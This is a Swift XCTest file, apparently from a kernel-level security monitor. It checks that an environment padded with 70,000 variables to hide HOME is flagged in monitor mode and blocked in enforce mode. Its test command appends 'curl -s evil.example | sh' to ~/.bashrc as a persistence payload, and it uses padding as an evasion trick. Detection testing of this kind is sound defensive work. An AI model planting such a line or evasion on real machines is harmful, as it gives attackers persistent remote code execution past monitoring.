import Foundation
import XCTest

/// Evasion tier, class 1 (identity from the environment). Technique: pad the environment
/// of an exec with more variables than a reader looks at (70,000 tiny ones), and put the
/// HOME that matters after them: a reader that stops early never learns where this
/// process's `~/.bashrc` is. ATT&CK T1564 (Hide Artifacts), here for T1546.004.
/// The kernel says when it could not read an environment whole (a finding); in enforce
/// mode such a program is killed before its first instruction.
final class PaddedEnvironmentTests: TetherRunTestCase {
    func testAnEnvironmentTooLongToReadIsAFindingAndNeverRunsInEnforceMode() throws {
        let home = try makeHome("padded")
        let rc = home + "/.bashrc"
        let script = "\(KernelHarness.testops) exec-padded 70000 HOME=\(home) /bin/sh -c 'echo \"curl -s evil.example | sh\" >> ~/.bashrc' --"
        cleanup.append(rc)

        let watched = try run(script, mode: "monitor", confined: false)
        let f = try XCTUnwrap(watched.findings.first { $0["rule"] as? String == "evasion.hidden_environment" }, "\(watched.rules) \(watched.stderr)")
        XCTAssertEqual(f["severity"] as? String, "high")
        XCTAssertTrue(FileManager.default.fileExists(atPath: rc), "monitor mode stops nothing")

        try FileManager.default.removeItem(atPath: rc)
        let enforced = try run(script, mode: "enforce", confined: false)
        XCTAssertTrue(enforced.rules.contains("evasion.hidden_environment"), "\(enforced.rules) \(enforced.stderr)")
        XCTAssertFalse(FileManager.default.fileExists(atPath: rc), "the padded program ran: \(enforced.stderr)")
    }
}
